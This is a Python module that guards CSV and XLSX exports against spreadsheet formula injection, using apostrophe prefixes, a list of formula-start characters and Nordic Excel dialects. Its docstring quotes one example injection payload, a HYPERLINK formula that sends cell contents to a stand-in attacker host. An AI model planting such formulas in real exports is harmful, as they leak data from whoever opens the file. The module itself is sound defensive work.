"""Cells for files people open in a spreadsheet: no formula ever comes from the data.

A kiosk (or anyone holding its token) chooses the text of a rating's fields.
Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and some also a tab or carriage return followed by one, so a
reason like ``=HYPERLINK("http://evil.example/?"&A1,"Open")`` in an export
would run on the office computer that opens it (CSV injection, OWASP).

:func:`cell` is the one place that decides what a text cell may start with:
every CSV writer (the API export, the dashboard's downloads and
``hymy-collector export``, all through :func:`csv_text`) uses it, and an XLSX
writer must too.  Numbers stay numbers; only text is changed.

Two CSV dialects (:data:`DIALECTS`): ``plain`` (comma, dot decimals, no BOM:
the API's default, unchanged for scripts) and ``excel-nordic`` (``;``, a
UTF-8 byte-order mark and decimal commas: what Excel expects in Finnish,
Swedish or German).  XLSX workbooks (:mod:`sync.collector.xlsx`) use
:func:`is_formula_like` too: formula-like text there keeps its characters and
gets Excel's own "this is text" mark (the quote prefix) instead of an apostrophe.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Any

#: A text cell starting with one of these is read as a formula (OWASP's list,
#: plus the full-width forms some spreadsheets also accept).
FORMULA_STARTS = frozenset("=+-@\t\r\n" "\uff1d\uff0b\uff0d\uff20")
#: A ``created_at`` column joined with NUL after each cell, every one in the wire's
#: shape (``2026-03-29T05:01:00.001Z``): the page-at-a-time writers (XLSX, local times)
#: take such a column as it is; any other sends the page cell by cell.
JOINED_STAMPS = re.compile(
    r"(?:[0-9]{4}-[0-9]{2}-[0-9]{2}T(?:[01][0-9]|2[0-3]):[0-5][0-9]:[0-5][0-9]\.[0-9]{3}Z\x00)*")
#: Characters that make a CSV field need quotes (besides the dialect's delimiter).
_NEEDS_QUOTES = frozenset('"\r\n')
#: First characters worth a closer look (a space may hide a formula after it).
_SUSPECT_STARTS = FORMULA_STARTS | {" "}


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could take ``text`` for a formula.

    Leading spaces are looked through: some programs trim them on import.
    """
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet: formula-like text gets a leading ``'``.

    The apostrophe is what spreadsheets themselves use to say "this is text",
    so the cell shows the original characters and nothing runs.  Numbers,
    booleans and None are returned unchanged: ``-0.5`` stays a number.
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


@dataclass(frozen=True)
class Dialect:
    """How a CSV file separates fields and writes decimals, and whether it starts with a BOM."""

    name: str
    delimiter: str
    decimal: str
    bom: bool

    def number(self, value: float) -> str:
        """A float as this dialect writes it: ``66.7`` or ``66,7``."""
        return repr(value).replace(".", self.decimal)


#: The API's default: the CSV Hymy always wrote, byte for byte.
PLAIN = Dialect("plain", ",", ".", bom=False)
#: What Excel opens right in Finnish, Swedish, German (any locale with a decimal comma).
NORDIC = Dialect("excel-nordic", ";", ",", bom=True)
DIALECTS = {dialect.name: dialect for dialect in (PLAIN, NORDIC)}


def dialect_for(decimal_symbol: str) -> Dialect:
    """The dialect Excel expects where numbers are written with ``decimal_symbol``.

    Excel's list separator is ``;`` wherever the decimal separator is a comma.
    """
    return NORDIC if decimal_symbol == "," else PLAIN


def csv_field(value: Any, dialect: Dialect = PLAIN) -> str:
    """One CSV field: booleans as 0/1, None as empty, text through :func:`cell`.

    A neutralised cell is always quoted (OWASP: prefix *and* quote), as is
    any text with the delimiter, a quote or a line break; quotes inside are doubled.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(int(value))
    if isinstance(value, int | float):
        return dialect.number(value) if isinstance(value, float) else str(value)
    text = str(value)
    safe = cell(text)
    if safe is not text or dialect.delimiter in safe or any(ch in _NEEDS_QUOTES for ch in safe):
        return '"' + safe.replace('"', '""') + '"'
    return safe


def _plain_value(value: Any, dialect: Dialect) -> Any:
    """A value for the C ``csv`` writer: booleans as 0/1, floats in the dialect's decimals."""
    if value.__class__ is bool:
        return int(value)
    if value.__class__ is float and dialect.decimal != ".":
        return dialect.number(value)
    return value


def csv_writer(dialect: Dialect, header: Sequence[str] | None) -> tuple[io.StringIO, Any]:
    """A text buffer and a C ``csv`` writer of ``dialect`` into it, ``\\n`` after each
    line; the ``header`` row written first (after the byte-order mark of a ``bom`` dialect).

    The buffer translates no line ends (``newline=""``): the same text as the
    default ``"\\n"``, which leaves them alone too but writes rows 3x slower.
    """
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=dialect.delimiter, lineterminator="\n")
    if header is not None:  # column names are ours, never a formula
        buffer.write("\ufeff" if dialect.bom else "")
        writer.writerow(header)
    return buffer, writer


def csv_text(
    items: Iterable[dict[str, Any]], columns: Sequence[str], header: bool = True,
    dialect: Dialect = PLAIN,
) -> str:
    """CSV text with ``columns`` in order, one ``\\n``-terminated line per item.

    Rows without a formula-like cell (nearly all) go through the C ``csv``
    writer; the few others through :func:`csv_field`, which quotes what it
    changed.  Both write the same text for the same ordinary cells.  The
    header of a ``bom`` dialect starts with the UTF-8 byte-order mark.
    """
    buffer, writer = csv_writer(dialect, columns if header else None)
    for item in items:
        row = [item.get(column) for column in columns]
        if any(isinstance(value, str) and value[:1] in _SUSPECT_STARTS
               and is_formula_like(value) for value in row):
            line = dialect.delimiter.join(csv_field(value, dialect) for value in row)
            buffer.write(line + "\n")
        elif dialect.decimal == ".":  # the common case, kept as fast as before dialects
            writer.writerow([int(value) if value.__class__ is bool else value for value in row])
        else:
            writer.writerow([_plain_value(value, dialect) for value in row])
    return buffer.getvalue()
